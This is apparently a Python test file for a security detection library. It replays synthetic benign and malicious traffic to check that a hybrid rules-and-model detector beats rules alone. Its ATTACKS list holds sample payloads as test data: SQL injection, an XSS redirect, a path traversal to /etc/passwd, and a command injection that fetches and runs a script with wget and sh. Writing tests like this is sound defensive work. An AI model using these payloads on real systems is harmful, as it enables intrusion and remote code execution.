"""Efficacy replay (the seed's Figure 1) on a small synthetic scenario."""

from __future__ import annotations

import numpy as np

from secml_detect import ByteFrequencyModel
from secml_detect.hybrid.replay import ReplayDay, efficacy_at_budget, plot_efficacy, replay_efficacy

ATTACKS = ["id={}' OR '1'='1' --", "<script>document.location='http://x/{}'</script>", "../../../../etc/passwd%00{}",
           ";wget http://203.0.113.9/{} -O /tmp/x;sh /tmp/x"]


def _day(rng, label, n_benign, n_bad, bad_ips):
    events, y = [], []
    for _ in range(n_benign):
        events.append({"dst_ip": f"192.0.2.{rng.randint(1, 255)}", "payload": f"id={rng.randint(9999)}&user=u{rng.randint(99)}"})
        y.append(0)
    for k in range(n_bad):
        events.append({"dst_ip": bad_ips[k % len(bad_ips)], "payload": ATTACKS[rng.randint(len(ATTACKS))].format(rng.randint(99))})
        y.append(1)
    return ReplayDay(label, events, np.array(y))


def test_replay_hybrid_beats_rules_and_learns():
    rng = np.random.RandomState(0)
    old_ips = [f"198.51.100.{i}" for i in range(1, 11)]
    history = _day(rng, "history", 300, 30, old_ips)
    days = []
    for d in range(6):
        new_ips = [f"203.0.{113 + d}.{i}" for i in range(1, 6)]
        days.append(_day(rng, f"day{d}", 200, 20, old_ips[:3] + new_ips))
    result = replay_efficacy(history, days, lambda: [("payload", ByteFrequencyModel(), "payload")],
                             indicator_columns={"ip": "dst_ip"}, update_every=3, update_delay=1,
                             alert_budget=2, analyst_k=10)
    eff = {k: np.nanmean(v) for k, v in result.efficacy.items()}
    assert 0.2 < eff["rules only"] < 0.6           # reused IPs only
    assert eff["hybrid"] >= max(eff["rules only"], eff["models only"]) - 0.05
    assert eff["hybrid + feedback"] >= eff["hybrid"] - 0.05
    assert result.promoted > 0 and result.feedback_labels == 60
    assert len(result.days) == 6 and result.area_between("hybrid", "rules only") > 0
    fig = plot_efficacy(result)
    assert len(fig.axes[0].lines) >= 4


def test_efficacy_without_malicious_is_nan():
    value, used = efficacy_at_budget(np.array([0.5, 0.1]), np.array([0, 0]), budget=1)
    assert np.isnan(value) and used == 0
